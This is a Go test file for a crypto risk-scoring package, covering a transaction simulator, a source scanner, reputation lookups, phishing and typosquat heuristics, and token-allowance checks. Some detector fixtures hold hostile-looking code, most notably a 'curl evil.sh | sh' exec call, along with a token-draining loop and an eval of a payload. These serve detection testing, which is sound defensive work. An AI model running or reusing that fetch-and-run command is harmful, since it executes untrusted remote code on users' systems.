package collectors

import (
	"context"
	"errors"
	"math/big"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/c360studio/forgegate/reputation"
	"github.com/c360studio/forgegate/risk"
)

// --- simulator ---

type fakeEnv struct {
	result *SimResult
	err    error
}

func (f *fakeEnv) Simulate(ctx context.Context, subject string) (*SimResult, error) {
	return f.result, f.err
}

func TestSimulatorUnavailableWithoutEnvironment(t *testing.T) {
	s := NewSimulator(nil, nil)
	_, err := s.Assess(context.Background(), "0xabc")
	assert.ErrorIs(t, err, risk.ErrUnavailable)
}

func TestSimulatorFlagsDrainingRun(t *testing.T) {
	s := NewSimulator(&fakeEnv{result: &SimResult{
		Success: true,
		Deltas:  []StateDelta{{Account: "victim", Asset: "usdc", Amount: -500_000}},
	}}, nil)

	sig, err := s.Assess(context.Background(), "0xabc")
	require.NoError(t, err)
	assert.GreaterOrEqual(t, sig.Score, 90.0)
	assert.Contains(t, sig.Labels, "exploit-signature")
}

func TestSimulatorRevertScoresLow(t *testing.T) {
	s := NewSimulator(&fakeEnv{result: &SimResult{Success: false, Revert: "insufficient balance"}}, nil)

	sig, err := s.Assess(context.Background(), "0xabc")
	require.NoError(t, err)
	assert.LessOrEqual(t, sig.Score, 20.0)
}

func TestSimulatorScansArtifactSource(t *testing.T) {
	source := []byte(`
		while (true) {
			token.transfer(attacker, balance);
		}
		eval(payload);
	`)
	s := NewSimulator(nil, func(subject string) ([]byte, bool) { return source, true })

	sig, err := s.Assess(context.Background(), "artifact-1")
	require.NoError(t, err)
	assert.Contains(t, sig.Labels, SigUnboundedTransfer)
	assert.Contains(t, sig.Labels, SigDynamicEval)
	assert.GreaterOrEqual(t, sig.Score, 70.0)
}

func TestScanSourceCleanArtifact(t *testing.T) {
	sigs, err := ScanSource(context.Background(), []byte(`
		function greet(name) { return "hello " + name; }
		token.transfer(recipient, amount);
	`))
	require.NoError(t, err)
	assert.Empty(t, sigs, "single bounded transfer is normal behavior")
}

func TestScanSourceProcessExec(t *testing.T) {
	sigs, err := ScanSource(context.Background(), []byte(`
		const cp = require("child_process");
		cp.exec("curl evil.sh | sh");
	`))
	require.NoError(t, err)
	assert.Contains(t, sigs, SigProcessExec)
}

// --- reputation ---

func TestReputationLookupPassesThroughGraph(t *testing.T) {
	g := reputation.NewGraph(reputation.DefaultPropagationConfig())
	g.AddLabel("0xbad", "known-phisher")

	c := NewReputationLookup(g)
	sig, err := c.Assess(context.Background(), "0xbad")
	require.NoError(t, err)
	assert.Equal(t, 100.0, sig.Score)
	assert.Contains(t, sig.Labels, "known-phisher")
	assert.Equal(t, 0.9, sig.Confidence)
}

func TestReputationLookupUnknownSubjectLowConfidence(t *testing.T) {
	c := NewReputationLookup(reputation.NewGraph(reputation.DefaultPropagationConfig()))
	sig, err := c.Assess(context.Background(), "0xnew")
	require.NoError(t, err)
	assert.Zero(t, sig.Score)
	assert.Equal(t, 0.3, sig.Confidence)
}

func TestReputationLookupNilGraphUnavailable(t *testing.T) {
	c := NewReputationLookup(nil)
	_, err := c.Assess(context.Background(), "0xabc")
	assert.ErrorIs(t, err, risk.ErrUnavailable)
}

// --- phishing ---

func TestPhishingNonURLUnavailable(t *testing.T) {
	c := NewPhishingHeuristic([]string{"example.org"}, nil)
	_, err := c.Assess(context.Background(), "0xdeadbeef")
	assert.ErrorIs(t, err, risk.ErrUnavailable)
}

func TestPhishingAllowlistedDomain(t *testing.T) {
	c := NewPhishingHeuristic([]string{"example.org", "*.example.org"}, nil)

	sig, err := c.Assess(context.Background(), "https://app.example.org/claim")
	require.NoError(t, err)
	assert.Zero(t, sig.Score)
	assert.Contains(t, sig.Labels, "allowlisted")
}

func TestPhishingTyposquat(t *testing.T) {
	c := NewPhishingHeuristic([]string{"example.org"}, nil)

	sig, err := c.Assess(context.Background(), "https://examp1e.org/claim")
	require.NoError(t, err)
	assert.Equal(t, 85.0, sig.Score)
	assert.Contains(t, sig.Labels, "typosquat")
}

func TestPhishingYoungCertificate(t *testing.T) {
	certInfo := func(ctx context.Context, host string) (time.Time, error) {
		return time.Now().Add(-24 * time.Hour), nil
	}
	c := NewPhishingHeuristic([]string{"example.org"}, certInfo)

	sig, err := c.Assess(context.Background(), "https://totally-legit-claim-site.net")
	require.NoError(t, err)
	assert.Contains(t, sig.Labels, "young-certificate")
	assert.GreaterOrEqual(t, sig.Score, 55.0)
}

func TestEditDistance(t *testing.T) {
	assert.Equal(t, 0, editDistance("example.org", "example.org"))
	assert.Equal(t, 1, editDistance("examp1e.org", "example.org"))
	assert.Equal(t, 3, editDistance("abc", ""))
}

// --- allowance ---

type fakeGrants struct {
	grants []Grant
	err    error
}

func (f *fakeGrants) Grants(ctx context.Context, subject string) ([]Grant, error) {
	return f.grants, f.err
}

func TestAllowanceUnlimitedScoresAtLeast80(t *testing.T) {
	unlimited := new(big.Int).Sub(new(big.Int).Lsh(big.NewInt(1), 256), big.NewInt(1))
	c := NewAllowanceScanner(&fakeGrants{grants: []Grant{
		{Spender: "0xspender", Asset: "usdc", Amount: unlimited},
	}})

	sig, err := c.Assess(context.Background(), "0xowner")
	require.NoError(t, err)
	assert.GreaterOrEqual(t, sig.Score, 80.0)
	assert.Contains(t, sig.Labels, "unlimited-approval-confirmed")
}

func TestAllowanceOversizedGrant(t *testing.T) {
	big25 := new(big.Int).Exp(big.NewInt(10), big.NewInt(25), nil)
	c := NewAllowanceScanner(&fakeGrants{grants: []Grant{
		{Spender: "0xspender", Asset: "usdc", Amount: big25},
	}})

	sig, err := c.Assess(context.Background(), "0xowner")
	require.NoError(t, err)
	assert.Equal(t, 60.0, sig.Score)
	assert.Contains(t, sig.Labels, "oversized-approval")
}

func TestAllowanceNoGrantsScoresZero(t *testing.T) {
	c := NewAllowanceScanner(&fakeGrants{})
	sig, err := c.Assess(context.Background(), "0xowner")
	require.NoError(t, err)
	assert.Zero(t, sig.Score)
}

func TestAllowanceSourceErrorUnavailable(t *testing.T) {
	c := NewAllowanceScanner(&fakeGrants{err: errors.New("indexer down")})
	_, err := c.Assess(context.Background(), "0xowner")
	assert.ErrorIs(t, err, risk.ErrUnavailable)
	// The cause survives into the message for the exclusion log line.
	assert.Contains(t, err.Error(), "indexer down")
}

// --- learned ---

func TestLearnedScorerBounds(t *testing.T) {
	c := NewLearnedScorer()
	for _, subject := range []string{"", "0xdeadbeef", "https://claim-free-tokens-now.example"} {
		sig, err := c.Assess(context.Background(), subject)
		require.NoError(t, err)
		assert.GreaterOrEqual(t, sig.Score, 0.0)
		assert.LessOrEqual(t, sig.Score, 100.0)
	}
}

func TestLearnedScorerDeterministic(t *testing.T) {
	c := NewLearnedScorer()
	a, err := c.Assess(context.Background(), "https://claim.example.org")
	require.NoError(t, err)
	b, err := c.Assess(context.Background(), "https://claim.example.org")
	require.NoError(t, err)
	assert.Equal(t, a.Score, b.Score)
}

func TestExtractFeaturesFixedLength(t *testing.T) {
	x := extractFeatures("0xdeadbeef")
	assert.Len(t, x, featureCount)
	for i, v := range x {
		assert.GreaterOrEqual(t, v, 0.0, "feature %d", i)
		assert.LessOrEqual(t, v, 1.0, "feature %d", i)
	}
}
